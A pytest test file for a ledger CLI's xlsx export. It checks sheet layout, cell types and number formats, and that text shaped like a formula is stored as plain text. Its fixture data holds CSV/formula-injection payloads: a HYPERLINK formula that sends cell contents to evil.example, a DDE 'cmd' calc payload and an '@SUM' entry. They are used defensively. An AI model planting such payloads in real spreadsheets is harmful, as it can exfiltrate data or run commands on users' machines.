"""``--format xlsx`` of fab report and fab split, read back with openpyxl: a sheet per section, numbers and
dates as typed cells, amounts with two decimals, widths set, header frozen, and text that looks like a
formula kept as text (issue 17)."""

from __future__ import annotations

import zipfile
from datetime import datetime
from decimal import Decimal

import pytest

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"clic")'


def _ledger(fab):
    for args in (["member", "add", "mallory", "--name", HOSTILE, "--role", "consultant", "--role", "contributor", "--joined", "2026-01-05"],
                 ["contribute", "--by", "alice", "--kind", "wiki", "--title", "+cmd|' /C calc'!A0", "--hours", "6", "--date", "2026-02-10"],
                 ["contribute", "--by", "mallory", "--kind", "code", "--title", "@SUM(1+1)", "--hours", "4.5", "--date", "2026-03-02"],
                 ["donate", "--by", "bruno", "--amount", "1500", "--date", "2026-02-18"],
                 ["sign", "bruno", "--date", "2026-01-20"]):
        result = fab(*args)
        assert result.code == 0, result.err


def test_the_report_as_a_workbook(fab, tmp_path):
    _ledger(fab)
    out = tmp_path / "reciprocite.xlsx"
    result = fab("report", "--period", "2026-H1", "--format", "xlsx", "--output", str(out))
    assert (result.code, result.err) == (0, f"wrote {out}\n")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["pool", "reciprocity", "contributors", "split", "agenda"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2" and sheet.column_dimensions["A"].width >= len("period")
    pool = book["pool"]
    assert [c.value for c in pool[1]] == ["period", "donor", "name", "donations", "amount", "currency"]
    assert [c.value for c in pool[2]] == ["2026-H1", "bruno", "Bruno Lefèvre", 1, 1500, "EUR"]
    assert (pool["E2"].data_type, pool["E2"].number_format) == ("n", "#,##0.00")
    assert pool["D2"].number_format == "General"  # a count, not money
    reciprocity = {row[1]: row for row in book["reciprocity"].iter_rows(min_row=2, values_only=True)}
    assert reciprocity["bruno"][5] == datetime(2026, 1, 20)  # signed: a date cell
    split = {row[1]: row for row in book["split"].iter_rows(min_row=2, values_only=True)}
    assert split["alice"][2] + split["mallory"][2] == 1500
    assert book["split"]["C2"].number_format == "#,##0.00"
    names = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value[:1] in "=+@"]
    assert {c.value for c in names} >= {HOSTILE}
    assert all(c.data_type == "s" for c in names)
    with zipfile.ZipFile(out) as archive:  # no formula anywhere in the workbook's sheets
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                       for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_the_split_as_a_workbook(fab, tmp_path):
    _ledger(fab)
    out = tmp_path / "split.xlsx"
    assert fab("split", "--period", "2026-H1", "--format", "xlsx", "--output", str(out)).code == 0
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["payouts", "pool"]
    rows = list(book["payouts"].iter_rows(values_only=True))
    assert rows[0] == ("period", "member", "amount", "currency", "share", "score", "status")
    assert [(r[1], Decimal(str(r[2]))) for r in rows[1:]] == [("alice", Decimal("857.14")), ("mallory", Decimal("642.86"))]
    assert dict((r[0], r[1]) for r in book["pool"].iter_rows(min_row=2, values_only=True))["distributable"] == 1500
    missing = fab("split", "--period", "2026-H1", "--format", "xlsx")
    assert missing.code == 2 and "--output" in missing.err
